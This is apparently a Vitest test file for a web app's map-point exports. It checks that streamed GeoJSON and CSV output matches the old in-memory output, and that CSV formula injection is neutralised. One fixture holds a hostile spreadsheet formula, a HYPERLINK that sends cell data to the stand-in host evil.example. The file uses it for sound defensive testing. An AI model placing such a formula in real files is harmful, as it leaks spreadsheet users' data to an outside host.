import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { loginAs, makeTestApp, type TestApp } from '../helpers/app.js';
import { snapshot, upload } from './importHelpers.js';
import { addTestPoint } from './visitsFixtures.js';
import type { Point } from '../../server/domain/points/point.js';

/** The exports exactly as they were built in memory before streaming (the old code, kept here as the oracle). */
function oldGeojson(t: TestApp): string {
  const now = new Date('2026-11-25T02:00:00Z');
  return JSON.stringify({ type: 'FeatureCollection', features: t.services.pointStore.listVisible().map((p) => t.services.finder.publicFeature(p, now, { id: p.id })) });
}
function oldCsv(t: TestApp): string {
  const rows = t.services.pointStore.listVisible().map((p: Point) => [
    p.id, p.external_id ?? '', p.name, p.type, p.position[1], p.position[0], p.address ?? '', p.phone ?? '',
    p.whatsapp ?? '', p.services.join(';'), p.accuracy, p.notes ?? '',
  ]);
  const columns = ['id', 'external_id', 'name', 'type', 'lat', 'lng', 'address', 'phone', 'whatsapp', 'services', 'accuracy', 'notes'];
  return stringify([columns, ...rows], { cast: { number: (n) => String(n) } });
}

/** Synthetic points (made up, no formula-like text) with quotes, commas, line breaks and unicode; every 7th retired. */
function addSynthetic(t: TestApp, n: number): void {
  for (let i = 0; i < n; i++) {
    addTestPoint(t, {
      name: `Sintetis ${i}, "uji" ${i % 3 === 0 ? 'ᬩᬮᬶ' : 'baris\ndua'}`,
      position: [115.25 + (i % 97) * 0.002, -8.5 + Math.floor(i / 97) * 0.003 + i * 1e-9],
      address: i % 2 ? `Banjar ${i}; Desa Uji` : null,
      phone: i % 5 ? null : `0366 ${1000 + i}`,
      services: i % 2 ? ['registration', 'claims'] : ['information'],
      external_id: `syn:${i}`,
      notes: i % 11 ? null : 'catatan "kutip"',
      status: i % 7 === 6 ? 'retired' : 'active',
      market_days: null,
    });
  }
}

async function readChunks(res: Response): Promise<{ text: string; chunks: number }> {
  const reader = res.body!.getReader();
  const decoder = new TextDecoder();
  let text = '';
  let chunks = 0;
  for (;;) {
    const { done, value } = await reader.read();
    if (done) break;
    chunks++;
    text += decoder.decode(value, { stream: true });
  }
  return { text: text + decoder.decode(), chunks };
}

describe('streamed exports', () => {
  it('are byte-identical to the in-memory exports on the seeded data', async () => {
    const t = makeTestApp();
    expect(await (await t.app.request('/api/points.geojson')).text()).toBe(oldGeojson(t));
    expect(await (await t.app.request('/api/points.csv')).text()).toBe(oldCsv(t));
  });

  it('are byte-identical on thousands of synthetic points and arrive in several chunks', async () => {
    const t = makeTestApp();
    addSynthetic(t, 2300);
    const geo = await readChunks(await t.app.request('/api/points.geojson'));
    expect(geo.text).toBe(oldGeojson(t));
    expect(geo.chunks).toBeGreaterThan(4);
    const csv = await readChunks(await t.app.request('/api/points.csv'));
    expect(csv.text).toBe(oldCsv(t));
    expect(csv.chunks).toBeGreaterThan(4);
  });

  it('leaves the database free for other requests while an export is half read', async () => {
    const t = makeTestApp();
    addSynthetic(t, 1200);
    const reader = (await t.app.request('/api/points.csv')).body!.getReader();
    await reader.read();
    await reader.read();
    expect((await t.app.request('/api/points/1')).status).toBe(200);
    expect((await t.app.request('/api/points?bbox=115,-9,116,-8&limit=10')).status).toBe(200);
    await reader.cancel();
  });
});

describe('CSV formula injection in /api/points.csv', () => {
  const hostile = {
    name: '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    phone: '+62366912345',
    whatsapp: '+6281234567890',
    address: '@Banjar -Jalan Raya',
    notes: "'=sudah berkutip",
  };

  it("prefixes text cells that could start a formula with ' and leaves id, lat and lng plain numbers", async () => {
    const t = makeTestApp();
    const id = addTestPoint(t, { ...hostile, position: [115.3551, -8.4492], external_id: '+ext', market_days: null });
    const rows = parse(await (await t.app.request('/api/points.csv')).text(), { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.id === String(id))!;
    expect(row).toMatchObject({
      id: String(id),
      external_id: "'+ext",
      name: `'${hostile.name}`,
      phone: "'+62366912345",
      whatsapp: "'+6281234567890",
      address: "'@Banjar -Jalan Raya",
      notes: "''=sudah berkutip",
      lat: '-8.4492',
      lng: '115.3551',
    });
    // No cell of any row starts a formula.
    for (const r of rows) for (const [col, cell] of Object.entries(r)) if (col !== 'lat' && col !== 'lng') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('round-trips byte for byte through the import, +62 phone numbers and a formula-like name included', async () => {
    const t = makeTestApp();
    const { cookie } = await loginAs(t, 'staff');
    const id = addTestPoint(t, { ...hostile, position: [115.3551, -8.4492], external_id: 'test:hostile', market_days: null });
    const exported = await (await t.app.request('/api/points.csv')).text();
    const before = snapshot(t);
    const n = t.services.pointStore.listVisible().length;
    const res = await t.app.request('/api/import', upload(exported, 'text/csv', cookie));
    expect(await res.json()).toMatchObject({ created: 0, updated: n, unchanged: n, errors: [] });
    expect(snapshot(t)).toEqual(before);
    expect(await (await t.app.request('/api/points.csv')).text()).toBe(exported);
    const stored = await (await t.app.request(`/api/points/${id}`)).json();
    expect(stored.properties).toMatchObject({ phone: '+62366912345', whatsapp: '+6281234567890', name: hostile.name, notes: "'=sudah berkutip" });
  });

  it('imports a hand-written cell without the quote as written', async () => {
    const t = makeTestApp();
    const { cookie } = await loginAs(t, 'staff');
    const csv = "name,type,lat,lng,phone,external_id\n\"'Pasar Kutip\",market,-8.45,115.35,+62 366 91234,test:plain\n";
    expect((await t.app.request('/api/import', upload(csv, 'text/csv', cookie))).status).toBe(200);
    const p = t.services.pointStore.getByExternalId('test:plain')!;
    expect(p).toMatchObject({ name: "'Pasar Kutip", phone: '+6236691234' });
  });
});
